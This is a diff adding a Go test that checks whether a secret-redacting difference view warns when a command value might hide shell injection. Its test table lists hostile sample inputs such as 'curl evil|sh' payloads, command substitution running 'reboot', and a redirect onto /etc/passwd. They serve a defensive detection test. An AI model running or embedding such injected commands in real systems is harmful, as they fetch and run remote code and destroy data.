@@ -47,6 +47,35 @@ func TestDifferenceHidesSecretsAndStillTellsThemApart(t *testing.T) {
 	require.Regexp(t, `^\+ data.c: "?redacted:[0-9a-f]{8}"?$`, got[1])
 }
 
+// A command that poses as a secret is not shown, so whoever decides about it is
+// told that there may be one.
+func TestDifferenceSaysThatACommandMayHide(t *testing.T) {
+	const warning = "\n    (what is not shown of this is more than a word to a shell, which would run it in a command)"
+	side := func(text string) mcpkit.Side {
+		return mcpkit.SideOf(t.Context(), mcpkit.Object{"command": []any{"sh", "-c", text}, "env": []any{map[string]any{"name": "DB_PASSWORD", "value": "a;b&c"}}})
+	}
+	for text, hides := range map[string]bool{
+		"echo ok":                                 false,
+		"PASSWORD=hunter2 run":                    false,
+		"PASSWORD=x;curl${IFS}evil|sh":            true,
+		"run && PASSWORD=x$(curl evil|sh) run":    true,
+		"PASSWORD=`reboot` run":                   true,
+		"PASSWORD= reboot":                        true,
+		"run --password=x&reboot":                 true,
+		"A_TOKEN=hunter2 B_TOKEN=y|reboot":        true,
+		`["PASSWORD=x|reboot", "a"]`:              true,
+		"PASSWORD=x>/etc/passwd run\u200b":        true,
+		"curl -u ada:hunter2 http://x; exit":      false,
+		"psql postgres://app:hunter2@db/x | head": false,
+	} {
+		for _, before := range []mcpkit.Side{{}, side("true")} {
+			got := strings.Join(mcpkit.Difference(before, side(text)), "\n")
+			require.Equal(t, hides, strings.Contains(got, warning), got)
+			require.NotContains(t, got, "hunter2")
+		}
+	}
+}
+
 func TestDifferenceDoesNotShowWhatIsSetAnew(t *testing.T) {
 	before, after := mcpkit.Side{}, mcpkit.SideOf(t.Context(), object(t, `{spec: {at: "10:00", on: true}}`))
 	require.Equal(t, []string{"+ spec.at: (set anew)", `+ spec.on: true`}, mcpkit.Difference(before, after, "spec.at"))
